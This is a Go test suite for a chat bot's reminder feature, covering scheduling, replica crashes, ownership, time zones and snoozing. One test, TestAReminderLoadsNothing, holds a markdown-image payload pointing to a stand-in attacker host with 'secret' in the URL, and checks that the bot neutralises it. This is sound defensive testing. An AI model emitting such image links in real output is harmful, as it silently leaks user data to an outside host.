package bot_test

import (
	"context"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/planbot-go/planbot/actions"
	"github.com/planbot-go/planbot/bot"
)

// reminded is a bot with reminders.
func reminded(t *testing.T) *bundle {
	t.Helper()
	b := setup(t)
	return b
}

// remind asks for a reminder and returns the id that the person is told.
func (b *bundle) remind(entities string, over event) (id string) {
	b.Helper()
	b.model.Says(remindPlan(entities))
	a := event{"text": "remind me"}
	for k, v := range over {
		a[k] = v
	}
	b.deliver(a)
	said := b.connector.Next(b).Text()
	m := toldID.FindStringSubmatch(said)
	if m == nil {
		b.Fatalf("no id in %q", said)
	}
	return m[1]
}

var toldID = regexp.MustCompile(`\(reminder ([a-z2-7]{5})\)`)

func remindPlan(entities string) string {
	return plan(`{"type":"DO","action":"remindMe","entities":`+entities+`,"saveAs":"IT"}`, say("$IT"))
}

// ask runs an action and returns what it put out.
func (b *bundle) ask(action, entities string, over event) string {
	b.Helper()
	b.model.Says(plan(`{"type":"DO","action":"`+action+`","entities":`+entities+`,"saveAs":"IT"}`, say("$IT")))
	a := event{"text": "please"}
	for k, v := range over {
		a[k] = v
	}
	b.deliver(a)
	return b.connector.Next(b).Text()
}

// pass lets time pass for what waits for it.
func (b *bundle) pass(d time.Duration) { b.redis.SetTime(time.Now().Add(d)) }

// inGroup is a message to the bot in a group chat.
var inGroup = event{
	"text": "<at>Planbot</at> please", "entities": []event{mentionOfBot},
	"conversation": event{"id": "19:g@thread.v2", "conversationType": "groupChat", "isGroup": true, "tenantId": "t1"},
}

func TestAReminderComesWhenItIsDue(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		b := reminded(t)
		b.remind(`{"what":"drink  water","in_minutes":10}`, nil)
		b.pass(9 * time.Minute)
		b.addReplica() // two of them sweep
		if got := b.ask("listReminders", `{}`, nil); !strings.Contains(got, ": drink water, to") || !strings.HasSuffix(got, " UTC") {
			t.Errorf("listed %q", got)
		}
		b.connector.None(t)
		b.pass(11 * time.Minute)
		b.expect("Reminder: drink water")
		b.rest("a:mia")
		if got := b.ask("listReminders", `{}`, nil); got != "There are no reminders." {
			t.Errorf("listed %q", got)
		}
		b.connector.None(t)
	})
}

// TestAReminderLoadsNothing: a model may have written what it says.
func TestAReminderLoadsNothing(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		b := reminded(t)
		b.remind(`{"what":"![tea](https://evil.example/?q=secret) <b>now</b>","in_minutes":10}`, nil)
		b.pass(11 * time.Minute)
		b.expect("Reminder: tea (evil.example) <\u200bb>now<\u200b/b>")
	})
}

func TestAReminderSurvivesItsProcesses(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		b := reminded(t)
		r := b.addReplica()
		b.model.Says(remindPlan(`{"what":"drink water","in_minutes":10}`))
		r.say("remind me")
		b.connector.Next(t)
		b.rest("a:mia")
		r.kill()
		b.must(b.bot.Drain(t.Context()))
		b.pass(11 * time.Minute)
		b.connector.None(t)
		b.addReplica()
		b.expect("Reminder: drink water")
	})
}

// TestAReminderThatIsLateSaysSo when the bot was down.
func TestAReminderThatIsLateSaysSo(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		b := reminded(t)
		at := time.Now().Add(time.Hour).UTC().Truncate(time.Second)
		b.remind(fmt.Sprintf(`{"what":"drink water","at":%q}`, at.Format(time.RFC3339)), nil)
		b.makeLate(at)
		b.pass(2 * time.Hour)
		b.expect("Reminder: drink water")
		b.expect("This was due on Saturday, 21 November at 11:00.")
	})
}

// makeLate makes what is due at that time have been due long ago.
func (b *bundle) makeLate(at time.Time) {
	b.Helper()
	key, id, record := b.record(`"due":"`)
	b.redis.HSet(key, id, strings.Replace(record, `"due":"`+at.Format(time.RFC3339), `"due":"1998-11-21T11:00:00Z`, 1))
}

func TestRemindersAreCancelledByTheirOwner(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		b := reminded(t)
		water := b.remind(`{"what":"drink water","in_minutes":10}`, inGroup)
		b.remind(`{"what":"call Bob","in_minutes":20}`, nil)
		bob := event{"from": event{"id": "29:bob", "name": "Bob"}}
		for k, v := range inGroup {
			bob[k] = v
		}
		if got := b.ask("cancelReminder", `{"reminder":"`+water+`"}`, bob); !strings.HasPrefix(got, "There is no such reminder") {
			t.Errorf("Bob cancelled Mia's: %q", got)
		}
		if got := b.ask("listReminders", `{}`, bob); got != "There are no reminders." {
			t.Errorf("Bob was told %q", got)
		}
		if got := b.ask("listReminders", `{}`, inGroup); !strings.Contains(got, "drink water") || strings.Contains(got, "call Bob") {
			t.Errorf("the group was told %q", got)
		}
		if got := b.ask("listReminders", `{}`, nil); !strings.Contains(got, "drink water") || !strings.Contains(got, "call Bob") {
			t.Errorf("Mia was told %q", got)
		}
		if got := b.ask("cancelReminder", `{"reminder":"#`+strings.ToUpper(water)+`"}`, nil); got != "Cancelled the reminder "+water+": drink water." {
			t.Errorf("Mia was told %q", got)
		}
		b.pass(time.Hour)
		b.expect("Reminder: call Bob")
		b.rest("a:mia")
		b.connector.None(t)
	})
}

func TestAReminderInAGroupNamesThePerson(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		b := reminded(t)
		b.remind(`{"what":"drink water","in_minutes":10}`, inGroup)
		b.pass(time.Hour)
		got := b.connector.Next(t)
		if got.Text() != "<at>Mia</at>: Reminder: drink water" || !strings.Contains(fmt.Sprint(got.Body["entities"]), "29:mia") || !strings.Contains(got.To, "19:g@thread.v2") {
			t.Errorf("sent %v to %s", got.Body, got.To)
		}
	})
}

func TestRemindersEndWithWhatIsForgotten(t *testing.T) {
	group := event{"type": "installationUpdate", "action": "remove", "conversation": inGroup["conversation"]}
	for name, test := range map[string]struct {
		end  event
		left []string
	}{
		"told to forget":       {event{"text": "/forget yes"}, nil},
		"taken out":            {event{"type": "installationUpdate", "action": "remove"}, nil},
		"taken out of a group": {group, []string{"a:mia"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			synctest.Test(t, func(t *testing.T) {
				b := reminded(t)
				b.remind(`{"what":"drink water","in_minutes":10}`, nil)
				b.remind(`{"what":"drink milk","in_minutes":10}`, inGroup)
				b.deliver(test.end)
				b.rest("a:mia")
				b.rest("19:g@thread.v2")
				if left := b.waiting(); !slices.Equal(left, test.left) {
					t.Errorf("there are reminders left in %v", left)
				}
			})
		})
	}
}

// waiting are the conversations that something waits for its time in.
func (b *bundle) waiting() []string {
	var all []string
	for _, key := range b.redis.Keys() {
		if lane, ok := strings.CutSuffix(key, "/waits"); ok && strings.Contains(lane, "/conversations/") {
			all = append(all, lane[strings.LastIndex(lane, "/")+1:])
		}
	}
	return all
}

// TestASecondTryMakesNoSecondReminder, also when the first one was due by then.
func TestASecondTryMakesNoSecondReminder(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		b := reminded(t)
		made, open := make(chan struct{}), make(chan struct{})
		t.Cleanup(func() { close(open) })
		r := b.addReplica(func(c *bot.Config) {
			c.Features = append(c.Features, bot.Feature{Call: func(ctx context.Context, _ *bot.Turn, c actions.Call, next callFunc) (actions.Result, error) {
				r, err := next(ctx, c)
				close(made)
				<-open
				return r, err
			}})
		})
		b.model.Says(plan(do("remindMe", `{"what":"drink water","in_minutes":1}`), say("Done.")))
		r.say("remind me")
		<-made
		r.kill()
		b.pass(2 * time.Minute)
		b.addReplica()
		b.expect("Done.")
		b.expect("Reminder: drink water")
		b.pass(time.Hour)
		b.gone()
		b.rest("a:mia")
		b.connector.None(t)
	})
}

func TestReminderTimesAreThePersons(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		b := reminded(t)
		zone := time.FixedZone("", 5*3600+45*60)
		at := time.Now().In(zone).AddDate(0, 0, 40)
		b.model.Says(remindPlan(fmt.Sprintf(`{"what":"x","at":%q}`, at.Format(time.RFC3339))))
		b.deliver(event{"text": "remind me", "localTimezone": "Asia/Kathmandu"})
		if got := b.connector.Next(t).Text(); !strings.HasPrefix(got, "I will remind you on "+at.Format("Monday, 2 January")) || !strings.Contains(got, at.Format(" at 15:04: x")) {
			t.Errorf("told %q", got)
		}
		if got := b.model.Calls()[0].Text(); !strings.Contains(got, "+05:45, ") {
			t.Errorf("the model is not told the person's time:\n%s", got)
		}
	})
}

// TestAReminderIsPutOff by the person whose it is.
func TestAReminderIsPutOff(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		b := reminded(t)
		b.remind(`{"what":"drink **water**","in_minutes":10}`, inGroup)
		b.pass(time.Hour)
		reminder := b.connector.Next(t)
		card := fmt.Sprint(reminder.Body["attachments"])
		for _, title := range []string{"In 10 minutes", "In 1 hour", "Tomorrow"} {
			if !strings.Contains(card, title) {
				t.Fatalf("no button %s: %s", title, card)
			}
		}
		click := func(who string, minutes int) string {
			press := pressed("reminders/snooze", event{"what": "drink **water**", "minutes": minutes, "for": "29:mia"})
			press["conversation"], press["from"] = inGroup["conversation"], event{"id": who, "name": "Somebody"}
			return b.deliver(press).body
		}
		if got := click("29:otto", 10); !strings.Contains(got, "This reminder is for somebody else.") {
			t.Errorf("another person put it off: %s", got)
		}
		first := click("29:mia", 60)
		if !strings.Contains(first, "I will remind you today at ") && !strings.Contains(first, "I will remind you tomorrow at ") || !strings.Contains(first, "adaptive") {
			t.Errorf("Mia reads %s", first)
		}
		if change := b.connector.NextUpdate(t); strings.Contains(fmt.Sprint(change.Body), "In 10 minutes") || !strings.Contains(fmt.Sprint(change.Body), "drink **water**") {
			t.Errorf("everybody sees %v", change.Body)
		}
		if n := len(b.waiting()); n != 1 {
			t.Errorf("%d reminders wait", n)
		}
		b.pass(3 * time.Hour)
		if got := b.connector.Next(t).Text(); got != "<at>Somebody</at>: Reminder: drink **water**" {
			t.Errorf("sent %q", got)
		}
		b.rest("19:g@thread.v2")
		for _, data := range []event{{"what": "x", "minutes": -5}, {"what": " ", "minutes": 5}, {"what": "x", "minutes": 1e12}, {"what": "x", "minutes": "soon"}} {
			data["for"] = "29:mia"
			press := pressed("reminders/snooze", data)
			press["replyToId"] = "other"
			if got := b.deliver(press).body; strings.Contains(got, "I will remind you") {
				t.Errorf("%v: %s", data, got)
			}
		}
		if n := len(b.waiting()); n != 0 {
			t.Errorf("%d reminders wait", n)
		}
	})
}

// TestSnoozedTwice: a second click, of a client that still shows the buttons, makes no second reminder.
func TestSnoozedTwice(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		b := reminded(t)
		b.remind(`{"what":"drink","in_minutes":10}`, inGroup)
		b.pass(time.Hour)
		reminder := b.connector.Next(t)
		click := func(minutes int) string {
			press := pressed("reminders/snooze", event{"what": "drink", "minutes": minutes, "for": "29:mia"})
			press["conversation"], press["replyToId"] = inGroup["conversation"], reminder.ID
			return b.deliver(press).body
		}
		for _, minutes := range []int{10, 10, 60, 10} {
			if got := click(minutes); !strings.Contains(got, "I will remind you ") {
				t.Errorf("answered %s", got)
			}
			if n := len(b.waiting()); n != 1 {
				t.Errorf("%d reminders wait", n)
			}
		}
		b.pass(2 * time.Hour)
		b.connector.Next(t)
		if got := click(10); !strings.Contains(got, "I will remind you ") || len(b.waiting()) != 1 {
			t.Errorf("once that has come: %s, %d reminders wait", got, len(b.waiting()))
		}
	})
}
